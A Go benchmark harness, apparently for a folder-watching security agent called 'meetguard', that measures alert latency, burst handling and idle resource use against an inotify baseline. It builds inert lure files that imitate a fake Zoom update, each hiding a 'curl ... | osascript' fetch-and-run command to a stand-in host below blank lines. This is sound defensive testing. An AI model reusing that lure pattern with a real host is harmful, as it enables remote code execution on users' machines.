//go:build linux

package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

// needle stands in every dropped lure, so that the floor knows it.
const needle = "osascript"

// noisy is the p99 of the floor from which a round is taken again: the machine
// was busy with something else, in seconds.
const noisy = 0.005

// watcher is the agent or the floor at work on one folder.
type watcher struct {
	dir  string
	cmd  *exec.Cmd
	log  *follower
	done chan error
}

// watchAgent starts `meetguard run` on an empty folder and waits until it says
// that it watches.
func (e *env) watchAgent(name, config string) (*watcher, error) {
	dir, state, err := e.folders(name)
	if err != nil {
		return nil, err
	}
	args := []string{"run", "--watch", dir, "--state", state}
	if config != "" {
		file := filepath.Join(e.dir, name+".yaml")
		if err := os.WriteFile(file, []byte(config), 0o644); err != nil {
			return nil, err
		}
		args = append(args, "--config", file)
	}
	return start(dir, filepath.Join(state, "alerts.jsonl"), e.agent, args...)
}

// watchFloor starts the inotify loop in the same way.
func (e *env) watchFloor(name string) (*watcher, error) {
	dir, state, err := e.folders(name)
	if err != nil {
		return nil, err
	}
	log := filepath.Join(state, "found.jsonl")
	return start(dir, log, e.self, "floor", "inotify", dir, needle, log)
}

func (e *env) folders(name string) (dir, state string, err error) {
	dir, state = filepath.Join(e.dir, name, "in"), filepath.Join(e.dir, name, "state")
	if err := os.RemoveAll(filepath.Join(e.dir, name)); err != nil {
		return "", "", err
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return "", "", err
	}
	return dir, state, os.MkdirAll(state, 0o700)
}

// start runs a watcher and returns when one of its streams says "Watching".
func start(dir, log, name string, args ...string) (*watcher, error) {
	w := &watcher{dir: dir, cmd: exec.Command(name, args...), done: make(chan error, 1)}
	said := &waiter{want: "Watching", met: make(chan struct{})}
	w.cmd.Stdout, w.cmd.Stderr = said, said
	if err := w.cmd.Start(); err != nil {
		return nil, err
	}
	go func() { w.done <- w.cmd.Wait() }()
	select {
	case <-said.met:
	case err := <-w.done:
		return nil, fmt.Errorf("%s ended before it watched: %v: %s", filepath.Base(name), err, said.text())
	case <-time.After(30 * time.Second):
		w.stop()
		return nil, fmt.Errorf("%s did not watch within 30 s: %s", filepath.Base(name), said.text())
	}
	var err error
	if w.log, err = follow(log); err != nil {
		w.stop()
		return nil, err
	}
	return w, nil
}

// stop ends the watcher as a service manager would.
func (w *watcher) stop() {
	if w.cmd.Process.Signal(syscall.SIGTERM) != nil {
		return // ended already
	}
	select {
	case <-w.done:
	case <-time.After(10 * time.Second):
		if w.cmd.Process.Kill() == nil {
			<-w.done
		}
	}
	if w.log != nil {
		w.log.close()
	}
}

// lure is an inert lure, different for each name, so that each makes its own
// alert.
func lure(name string) []byte {
	return fmt.Appendf(nil, "-- Zoom SDK update: your audio component is out of date. Press Run. (%s)\n%sdo shell script \"curl -fsSL https://zoom-sdk-bench.invalid/fix | osascript\"\n", name, strings.Repeat("\n", 60))
}

// drop writes a file into the watched folder and gives the moment just before
// it is closed.
func drop(p string, data []byte) (time.Time, error) {
	f, err := os.Create(p)
	if err != nil {
		return time.Time{}, err
	}
	if _, err := f.Write(data); err != nil {
		f.Close()
		return time.Time{}, err
	}
	closing := time.Now()
	return closing, f.Close()
}

// latency drops n lures, one after the other, and gives the seconds until each
// was told. It counts those that were not told within two seconds.
func (w *watcher) latency(round, n int) (s series, lost int, err error) {
	for i := range n {
		name := fmt.Sprintf("drop-%d-%d.scpt", round, i)
		closed, err := drop(filepath.Join(w.dir, name), lure(name))
		if err != nil {
			return nil, 0, err
		}
		told, err := w.log.wait(name, 2*time.Second)
		if err != nil {
			return nil, 0, err
		}
		if told.IsZero() {
			lost++
		} else {
			s = append(s, told.Sub(closed).Seconds())
		}
		if err := os.Remove(filepath.Join(w.dir, name)); err != nil {
			return nil, 0, err
		}
		time.Sleep(3 * time.Millisecond)
	}
	return s, lost, nil
}

// burst drops n files as fast as it can, one of them a lure, and gives the
// seconds from the lure's close to its alert.
func (w *watcher) burst(round, n, hit int) (float64, error) {
	var closed time.Time
	honest := text(1 << 10)
	lureName := fmt.Sprintf("burst-%d-lure.scpt", round)
	for i := range n {
		name, data := fmt.Sprintf("burst-%d-%05d.txt", round, i), honest
		if i == hit {
			name, data = lureName, lure(lureName)
		}
		t, err := drop(filepath.Join(w.dir, name), data)
		if err != nil {
			return 0, err
		}
		if i == hit {
			closed = t
		}
	}
	told, err := w.log.wait(lureName, time.Minute)
	if err != nil {
		return 0, err
	}
	if told.IsZero() {
		return 0, errors.New("the lure of a burst was not told within a minute")
	}
	return told.Sub(closed).Seconds(), w.empty()
}

// empty clears the folder and lets the watcher come to rest.
func (w *watcher) empty() error {
	entries, err := os.ReadDir(w.dir)
	if err != nil {
		return err
	}
	for _, e := range entries {
		if err := os.Remove(filepath.Join(w.dir, e.Name())); err != nil {
			return err
		}
	}
	w.rest()
	return nil
}

// rest waits until the family of the watcher has used no CPU for a while.
func (w *watcher) rest() {
	last := int64(-1)
	for range 200 {
		var now int64
		for _, pid := range family(w.cmd.Process.Pid) {
			now += wakeups(pid)
		}
		if now-last < 5 && last >= 0 {
			return
		}
		last = now
		time.Sleep(100 * time.Millisecond)
	}
}

// measureWatch measures latency and bursts of the agent against the floor, in
// turns.
func measureWatch(e *env) ([]result, error) {
	agent, err := e.watchAgent("agent", "")
	if err != nil {
		return nil, err
	}
	defer agent.stop()
	floor, err := e.watchFloor("floor")
	if err != nil {
		return nil, err
	}
	defer floor.stop()
	rows, err := e.latencies(agent, floor)
	if err != nil {
		return nil, err
	}
	more, err := e.bursts(agent, floor)
	return append(rows, more...), err
}

func (e *env) latencies(agent, floor *watcher) ([]result, error) {
	n := 70
	if e.short {
		n = 20
	}
	var ratio, p50, p99, floor50 series
	lost, again := 0, 0
	for round := 0; len(ratio) < e.rounds; round++ {
		a, missing, err := agent.latency(round, n)
		if err != nil {
			return nil, err
		}
		f, floorMissing, err := floor.latency(round, n)
		if err != nil {
			return nil, err
		}
		if len(a) == 0 || len(f) == 0 {
			return nil, fmt.Errorf("%d of %d lures were not told by the agent, %d by the floor", missing, n, floorMissing)
		}
		lost += missing
		if f.quantile(0.99) > noisy && again < 2*e.rounds {
			again++
			continue
		}
		ratio, p50, p99, floor50 = append(ratio, a.median()/f.median()), append(p50, 1e3*a.median()), append(p99, 1e3*a.quantile(0.99)), append(floor50, 1e3*f.median())
	}
	r := atMost("close to alert, p50 / inotify loop that reads the file", ratio, 2, "×")
	if again > 0 {
		r.spread += fmt.Sprintf(", %d noisy rounds taken again", again)
	}
	none := result{name: "lures of these that made no alert", figure: fmt.Sprint(lost), bar: "0", passed: lost == 0}
	return []result{r, told("close to alert, p50", p50, " ms"), told("close to alert, p99", p99, " ms"), told("the same of the floor, p50", floor50, " ms"), none}, nil
}

func (e *env) bursts(agent, floor *watcher) ([]result, error) {
	n, hit := 10000, 9000
	if e.short {
		n, hit = 2000, 1800
	}
	var ratio, took series
	for round := range e.rounds {
		a, err := agent.burst(round, n, hit)
		if err != nil {
			return nil, err
		}
		f, err := floor.burst(round, n, hit)
		if err != nil {
			return nil, err
		}
		ratio, took = append(ratio, a/f), append(took, a)
	}
	return []result{atMost(fmt.Sprintf("burst of %d files: alert of no. %d / inotify loop", n, hit), ratio, 3, "×"), told("that alert after its file was closed", took, " s")}, nil
}

// measureIdle looks at the agent when nothing happens: memory with every
// source, wakeups without the launches that others make on this machine.
func measureIdle(e *env) ([]result, error) {
	settle, window := 20*time.Second, 60*time.Second
	if e.short {
		settle, window = 5*time.Second, 10*time.Second
	}
	agent, err := e.watchAgent("idle", "")
	if err != nil {
		return nil, err
	}
	_, _, err = agent.latency(0, 5) // workers are warm, as on a machine in use
	time.Sleep(settle)
	pss, rss := memory(agent)
	agent.stop()
	if err != nil {
		return nil, err
	}
	quiet, err := e.watchAgent("quiet", "launches: \"off\"\n")
	if err != nil {
		return nil, err
	}
	defer quiet.stop()
	time.Sleep(settle)
	before := awake(quiet)
	time.Sleep(window)
	perMinute := float64(awake(quiet)-before) / window.Minutes()
	return []result{atMost("idle memory of the agent and its workers (PSS)", series{pss}, 40, " MB"), told("the same as RSS", series{rss}, " MB"),
		atMost("idle wakeups per minute, launches off", series{perMinute}, 6, "")}, nil
}

// memory sums PSS and RSS of the watcher's processes, in MB.
func memory(w *watcher) (pss, rss float64) {
	for _, pid := range family(w.cmd.Process.Pid) {
		pss += float64(procField(pid, "smaps_rollup", "Pss:")) / 1024
		rss += float64(procField(pid, "smaps_rollup", "Rss:")) / 1024
	}
	return pss, rss
}

func awake(w *watcher) int64 {
	var n int64
	for _, pid := range family(w.cmd.Process.Pid) {
		n += wakeups(pid)
	}
	return n
}

// waiter is a stream that tells when a text was written to it.
type waiter struct {
	want string
	met  chan struct{}
	seen bool
	buf  bytes.Buffer
}

// Write keeps what was written before the text, and no more than that.
func (w *waiter) Write(p []byte) (int, error) {
	if !w.seen {
		w.buf.Write(p)
		if bytes.Contains(w.buf.Bytes(), []byte(w.want)) {
			w.seen = true
			close(w.met)
		}
	}
	return len(p), nil
}

func (w *waiter) text() string { return strings.TrimSpace(w.buf.String()) }
